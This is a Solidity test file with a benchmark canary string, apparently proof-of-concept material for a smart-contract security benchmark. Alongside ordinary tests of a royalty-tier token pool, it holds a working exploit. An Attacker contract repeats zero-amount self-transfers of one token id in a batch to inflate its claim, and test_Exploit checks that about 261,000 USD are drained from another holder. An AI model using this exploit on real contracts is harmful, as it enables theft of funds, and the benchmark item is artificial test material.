// SPDX-License-Identifier: AGPL-3.0-only
pragma solidity 0.8.24;

import "./RoyaltyTiers.sol";
import {Ownable} from "@openzeppelin/contracts@5.4.0/access/Ownable.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import {ERC1155Holder} from "@openzeppelin/contracts@5.4.0/token/ERC1155/utils/ERC1155Holder.sol";

// assay-canary-3e5adf67-9aa0-4730-998b-46c48f9a57ca

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Usd is ERC20 {
    constructor() ERC20("Usd", "USD") {
        _mint(msg.sender, 500_000e6);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant OWNER = address(0x0E);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_780_000_000;
    uint256 private constant ROYALTIES = 264_000e6;

    Usd private usd;
    RoyaltyTiers private pool;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        usd = new Usd();
        pool = new RoyaltyTiers(usd, OWNER, "a");
        vm.prank(OWNER);
        pool.setLabel(address(this), true);
        usd.approve(address(pool), type(uint256).max);

        pool.open(100, 0, 0);
        pool.issue(0, ANA, 50);
        pool.issue(0, ANA, 50);
        pool.pay(0, ROYALTIES);
        vm.warp(START + 30 days);

        mallory = new Attacker(pool);
        pool.open(11, 2, 100e6);
        pool.issue(1, ANA, 9);
        pool.issue(1, address(mallory), 1);
        pool.pay(1, 9_000e6);
    }

    function one(uint256 x) private pure returns (uint256[] memory a) {
        a = new uint256[](1);
        a[0] = x;
    }

    function near(uint256 a, uint256 b) private pure returns (bool) {
        return a <= b && a + 4 > b;
    }

    function test_Regular() public {
        require(pool.left(1) == 1 && pool.count() == 2 && pool.tierOf(pool.idOf(1, 10)) == 1, "views");
        uint256[] memory i = new uint256[](2);
        uint256[] memory v = new uint256[](2);
        (i[0], i[1], v[0], v[1]) = (pool.idOf(1, 1), pool.idOf(1, 2), 1, 1);

        vm.warp(START + 45 days);
        vm.startPrank(ANA);
        pool.safeBatchTransferFrom(ANA, BEN, i, v, "");
        require(pool.held(1, ANA) == 7 && pool.held(1, BEN) == 2 && pool.balanceOf(BEN, i[0]) == 1, "held");
        vm.expectRevert();
        pool.safeBatchTransferFrom(ANA, BEN, i, v, "");
        vm.stopPrank();
        vm.expectRevert();
        pool.safeBatchTransferFrom(BEN, ANA, i, v, "");

        vm.warp(START + 60 days);
        vm.prank(BEN);
        require(near(pool.claim(one(1)), 900e6) && near(usd.balanceOf(BEN), 900e6), "half the time");
        vm.prank(ANA);
        require(near(pool.claim(one(1)), 7_200e6), "seven and nine");
        require(near(pool.claimFor(1, address(mallory)), 900e6), "one");
        vm.prank(ANA);
        require(near(pool.claim(one(0)), ROYALTIES), "first tier");
        require(usd.balanceOf(address(pool)) < 10, "books");

        vm.startPrank(ANA);
        pool.setApprovalForAll(BEN, true);
        pool.setPayee(address(0xFEE));
        vm.stopPrank();
        uint256 third = pool.idOf(1, 3);
        vm.prank(BEN);
        pool.safeTransferFrom(ANA, BEN, third, 1, "");
        require(pool.held(1, BEN) == 3, "by an operator");

        // a sale with a fee, and royalties that run into each other
        vm.prank(OWNER);
        pool.setFee(250);
        pool.setSale(1, 1, 200e6);
        usd.transfer(BEN, 200e6);
        uint256 before = usd.balanceOf(address(this));
        vm.startPrank(BEN);
        usd.approve(address(pool), 200e6);
        pool.buy(1, 1, 200e6);
        vm.stopPrank();
        require(usd.balanceOf(address(this)) == before + 195e6 && pool.fees() == 5e6, "sold");
        require(pool.held(1, BEN) == 4 && pool.bought(1, BEN) == 1 && pool.left(1) == 0, "bought");
        pool.pay(1, 4_000e6);
        vm.warp(START + 75 days);
        pool.pay(1, 4_000e6);
        require(pool.fees() == 205e6, "fees");
        vm.warp(START + 105 days);
        require(near(pool.claimable(1, ANA), uint256(6 * 7_800e6) / 11), "six of eleven");
        before = usd.balanceOf(address(0xFEE));
        pool.claimFor(1, ANA);
        require(near(usd.balanceOf(address(0xFEE)), before + uint256(6 * 7_800e6) / 11), "paid to the payee");
        vm.startPrank(OWNER);
        pool.sweep(OWNER);
        require(usd.balanceOf(OWNER) == 205e6 && pool.fees() == 0, "swept");
        pool.setURI("b");
        require(keccak256(bytes(pool.uri(0))) == keccak256("b"), "uri");
        pool.setLabel(BEN, true);
        pool.halt(true);
        pool.halt(false);
        pool.transferOwnership(BEN);
        vm.stopPrank();
        pool.shut(1);
        pool.pass(1, BEN);
        vm.startPrank(BEN);
        pool.acceptOwnership();
        pool.renounceOwnership();
        vm.stopPrank();
    }

    function stranger(address a) private pure returns (bytes memory) {
        return abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, a);
    }

    function test_RefusesStrangers() public {
        vm.startPrank(BEN);
        vm.expectRevert(IRoyaltyTiers.NotTierLabel.selector);
        pool.issue(1, BEN, 1);
        vm.expectRevert(IRoyaltyTiers.NotTierLabel.selector);
        pool.pay(1, 0);
        vm.expectRevert(IRoyaltyTiers.NotTierLabel.selector);
        pool.setSale(1, 0, 1);
        vm.expectRevert(IRoyaltyTiers.NotTierLabel.selector);
        pool.shut(1);
        vm.expectRevert(IRoyaltyTiers.NotTierLabel.selector);
        pool.pass(1, address(this));
        vm.expectRevert(Gate.NotLabel.selector);
        pool.open(1, 0, 0);
        vm.expectRevert(stranger(BEN));
        pool.setFee(0);
        vm.expectRevert(stranger(BEN));
        pool.setURI("c");
        vm.expectRevert(stranger(BEN));
        pool.sweep(BEN);
        vm.expectRevert(stranger(BEN));
        pool.halt(true);
        vm.expectRevert(stranger(BEN));
        pool.setLabel(BEN, true);
        vm.expectRevert();
        pool.safeTransferFrom(ANA, BEN, 1, 1, "");
        vm.stopPrank();
        vm.expectRevert(Gate.NotLabel.selector);
        pool.pass(1, BEN);
        vm.prank(OWNER);
        vm.expectRevert(IRoyaltyTiers.FeeTooHigh.selector);
        pool.setFee(501);
    }

    function test_RefusesTiers() public {
        vm.expectRevert(IRoyaltyTiers.Full.selector);
        pool.issue(1, ANA, 2);
        vm.expectRevert(IRoyaltyTiers.Count.selector);
        pool.issue(1, ANA, 0);
        vm.expectRevert(IRoyaltyTiers.Cap.selector);
        pool.open(0, 0, 0);
        uint256 t = pool.open(51, 0, 0);
        vm.expectRevert(IRoyaltyTiers.Count.selector);
        pool.issue(t, ANA, 51);
        vm.expectRevert(IRoyaltyTiers.Empty.selector);
        pool.pay(t, 0);
        vm.prank(OWNER);
        pool.halt(true);
        vm.expectRevert(Gate.Halted.selector);
        pool.open(1, 0, 0);
        vm.expectRevert(Gate.Halted.selector);
        pool.pay(1, 0);
        vm.expectRevert(Gate.Halted.selector);
        pool.buy(1, 1, 100e6);
    }

    function test_RefusesSales() public {
        uint256 t = pool.open(20, 2, 100e6);
        vm.expectRevert(IRoyaltyTiers.Cost.selector);
        pool.buy(t, 1, 100e6 - 1);
        vm.startPrank(BEN);
        vm.expectRevert();
        pool.buy(t, 1, 100e6);
        vm.stopPrank();
        usd.transfer(BEN, 500e6);
        vm.startPrank(BEN);
        usd.approve(address(pool), 500e6);
        vm.expectRevert(IRoyaltyTiers.Limit.selector);
        pool.buy(t, 3, 500e6);
        pool.buy(t, 2, 500e6);
        vm.expectRevert(IRoyaltyTiers.Limit.selector);
        pool.buy(t, 1, 500e6);
        vm.stopPrank();
        pool.setSale(t, 0, 100e6);
        vm.prank(BEN);
        pool.buy(t, 3, 500e6);
        pool.setSale(t, 0, 0);
        vm.expectRevert(IRoyaltyTiers.Closed.selector);
        pool.buy(t, 1, 0);
        pool.setSale(t, 0, 1);
        pool.shut(t);
        vm.prank(BEN);
        vm.expectRevert(IRoyaltyTiers.Closed.selector);
        pool.buy(t, 1, 1);
    }

    function exploit() public {
        mallory.multiply(pool.idOf(1, 10), 302);
        vm.warp(block.timestamp + 30 days);
        mallory.collect(1);
    }

    function test_Exploit() public {
        uint256 before = holdersCanClaim();
        exploit();
        require(holdersCanClaim() + 261_000e6 <= before, "nothing lost");
    }

    // What the holder of the first tier has and can claim of it, as far as it is there.
    function holdersCanClaim() public view returns (uint256) {
        uint256 d = pool.claimable(0, ANA);
        uint256 b = usd.balanceOf(address(pool));
        return usd.balanceOf(ANA) + (d < b ? d : b);
    }

    function target() public view returns (address) {
        return address(pool);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker is ERC1155Holder {
    RoyaltyTiers private pool;

    constructor(RoyaltyTiers p) {
        pool = p;
    }

    function multiply(uint256 id, uint256 n) external {
        uint256[] memory i = new uint256[](n);
        for (uint256 j; j < n; ++j) i[j] = id;
        pool.safeBatchTransferFrom(address(this), address(this), i, new uint256[](n), "");
    }

    function collect(uint256 t) external {
        uint256[] memory a = new uint256[](1);
        a[0] = t;
        pool.claim(a);
    }
}
